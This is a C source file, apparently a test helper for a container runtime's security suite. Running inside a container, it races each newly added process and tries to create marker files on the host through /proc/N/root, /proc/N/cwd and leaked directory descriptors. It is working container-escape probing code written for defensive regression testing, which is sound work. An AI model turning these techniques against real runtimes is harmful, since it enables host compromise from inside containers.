/*
 * pid-watch: the attacker of tests/security/ns_windows.bats. It runs inside
 * a container (as its init, with CAP_SYS_PTRACE) and waits for processes
 * the runtime adds to the container's pid namespace: a process of
 * `exec`, or the init of another container that joins this pid namespace.
 * Each new pid N is attacked at once, while the runtime may still be
 * setting it up with the host's file tree:
 *
 *   root  create HOSTDIR/escape-root-N through /proc/N/root (the host's
 *         root while N is still in the host's mount namespace)
 *   cwd   create escape-cwd-N through /proc/N/cwd (the runtime's working
 *         directory, which the test makes HOSTDIR, until N leaves it)
 *
 * A file created on one of the container's own mounts (N is already in the
 * container) is removed again and not reported.
 *   fd    open every /proc/N/fd/K (K >= 3) and, for a directory, create
 *         HOSTDIR/escape-fd-N-K by climbing out of it with "..": from a
 *         directory of the host's mount namespace the climb ends at the
 *         host's root, from one of the container's at the container's
 *
 * A pid gets a second round of the fd attack on a later pass if it is
 * still there (the runtime's fds stay open until its execve).
 *
 *   pid-watch HOSTDIR
 *
 * Prints "ready", then one line per finding, flushed at once:
 *   "escape root|cwd|fd pid=N ..."  a file was created (the test then
 *                                   looks for it in HOSTDIR on the host)
 *   "fd pid=N fd=K mnt=M dir|file TARGET"  an fd (K >= 3) naming a path,
 *                                   on mount id M (a mount of the host's
 *                                   when the host's mount table has M)
 *   "pid N"                         a new pid was seen
 * and, on SIGTERM, "seen N pids" before exiting.
 *
 * Built by the test with the host's cc, statically (the busybox rootfs has
 * no libc), and copied into the container's rootfs.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MAX_PID (1 << 22)
/* Passes over /proc in which a pid's fds are attacked again. */
#define FD_ROUNDS 64

static volatile sig_atomic_t stop;
static unsigned char seen[MAX_PID];
static const char *hostdir;
static char climb[4096];

static void on_term(int sig)
{
  (void)sig;
  stop = 1;
}

static void say(const char *fmt, ...)
{
  char buf[4096];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
  va_end(ap);
  if (n < 0)
    return;
  if (n > (int)sizeof(buf) - 2)
    n = (int)sizeof(buf) - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0)
    _exit(1);
}

static int fd_mnt_id(const char *fdinfo)
{
  char buf[512];
  int fd = open(fdinfo, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  ssize_t n = read(fd, buf, sizeof(buf) - 1);
  close(fd);
  if (n <= 0)
    return -1;
  buf[n] = '\0';
  char *m = strstr(buf, "mnt_id:");
  return m ? atoi(m + 7) : -1;
}

/* Whether mount id M is one of our own mount namespace's. */
static int mount_is_ours(int m)
{
  static char buf[1 << 16];
  int fd = open("/proc/self/mountinfo", O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  ssize_t n = read(fd, buf, sizeof(buf) - 1);
  close(fd);
  if (n <= 0)
    return 0;
  buf[n] = '\0';
  for (char *line = buf; line && *line; line = strchr(line, '\n'), line = line ? line + 1 : NULL)
    if (atoi(line) == m)
      return 1;
  return 0;
}

/* Creates PATH (relative to DIRFD) holding WHAT. 1: created on a mount
 * that is not ours, an escape; 0: created inside the container (removed
 * again: a process already in the container is no finding); -1: not
 * created. */
static int create_at(int dirfd, const char *path, const char *what)
{
  int fd = openat(dirfd, path, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, 0644);
  if (fd < 0)
    return -1;
  char info[64];
  snprintf(info, sizeof(info), "/proc/self/fdinfo/%d", fd);
  int m = fd_mnt_id(info);
  if (m >= 0 && mount_is_ours(m)) {
    close(fd);
    unlinkat(dirfd, path, 0);
    return 0;
  }
  if (write(fd, what, strlen(what)) < 0 || write(fd, "\n", 1) < 0) {
    close(fd);
    return 1;
  }
  close(fd);
  return 1;
}

/* The mount id of /proc/PID/fd/K (mount ids are global: the test looks
 * them up in the host's mount table), or -1. */
static int mnt_id(int pid, int k)
{
  char path[96];
  snprintf(path, sizeof(path), "/proc/%d/fdinfo/%d", pid, k);
  return fd_mnt_id(path);
}

static void attack_fds(int pid)
{
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR *d = opendir(path);
  if (d == NULL)
    return;
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9')
      continue;
    int k = atoi(e->d_name);
    if (k < 3)
      continue;
    char link[96], target[4096];
    snprintf(link, sizeof(link), "/proc/%d/fd/%d", pid, k);
    ssize_t n = readlink(link, target, sizeof(target) - 1);
    if (n <= 0 || target[0] != '/')
      continue; /* sockets, pipes, anon inodes, or gone */
    target[n] = '\0';
    int fd = open(link, O_PATH | O_CLOEXEC);
    if (fd < 0)
      continue;
    struct stat st;
    int is_dir = fstat(fd, &st) == 0 && S_ISDIR(st.st_mode);
    char name[4096 + 64], what[128];
    snprintf(name, sizeof(name), "%s/escape-fd-%d-%d", climb, pid, k);
    snprintf(what, sizeof(what), "escape fd pid=%d fd=%d", pid, k);
    if (is_dir && create_at(fd, name, what) == 1)
      say("%s target=%s", what, target);
    else if (seen[pid] == 1)
      say("fd pid=%d fd=%d mnt=%d %s %s", pid, k, mnt_id(pid, k), is_dir ? "dir" : "file", target);
    close(fd);
  }
  closedir(d);
}

static void attack(int pid)
{
  char path[4096 + 64], what[128];
  snprintf(what, sizeof(what), "escape root pid=%d", pid);
  snprintf(path, sizeof(path), "/proc/%d/root%s/escape-root-%d", pid, hostdir, pid);
  if (create_at(AT_FDCWD, path, what) == 1)
    say("%s", what);
  snprintf(what, sizeof(what), "escape cwd pid=%d", pid);
  snprintf(path, sizeof(path), "/proc/%d/cwd/escape-cwd-%d", pid, pid);
  if (create_at(AT_FDCWD, path, what) == 1)
    say("%s (look for it in %s on the host)", what, hostdir);
  attack_fds(pid);
}

int main(int argc, char **argv)
{
  if (argc != 2 || argv[1][0] != '/') {
    fprintf(stderr, "usage: pid-watch HOSTDIR\n");
    return 2;
  }
  hostdir = argv[1];
  /* Enough ".." to reach / from any directory, then the host path. */
  size_t off = 0;
  for (int i = 0; i < 64; i++)
    off += (size_t)snprintf(climb + off, sizeof(climb) - off, "../");
  snprintf(climb + off, sizeof(climb) - off, "%s", hostdir + 1);

  struct sigaction sa;
  memset(&sa, 0, sizeof(sa));
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, NULL);
  sigaction(SIGINT, &sa, NULL);

  int self = getpid();
  int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (proc < 0) {
    perror("pid-watch: open /proc");
    return 1;
  }
  /* Whatever runs already is not the runtime's. */
  unsigned long total = 0;
  int first = 1;
  say("ready");
  static char buf[1 << 16];
  while (!stop) {
    if (lseek(proc, 0, SEEK_SET) < 0)
      return 1;
    for (;;) {
      long n = syscall(SYS_getdents64, proc, buf, sizeof(buf));
      if (n <= 0)
        break;
      for (long off2 = 0; off2 < n;) {
        struct {
          unsigned long long ino;
          long long off;
          unsigned short reclen;
          unsigned char type;
          char name[];
        } *d = (void *)(buf + off2);
        off2 += d->reclen;
        if (d->name[0] < '1' || d->name[0] > '9')
          continue;
        int pid = atoi(d->name);
        if (pid <= 0 || pid >= MAX_PID || pid == self)
          continue;
        if (first) {
          seen[pid] = 255;
          continue;
        }
        if (seen[pid] == 0) {
          seen[pid] = 1;
          total++;
          attack(pid);
          say("pid %d", pid);
        } else if (seen[pid] < FD_ROUNDS) {
          seen[pid]++;
          attack_fds(pid);
        }
      }
    }
    first = 0;
  }
  say("seen %lu pids", total);
  return 0;
}
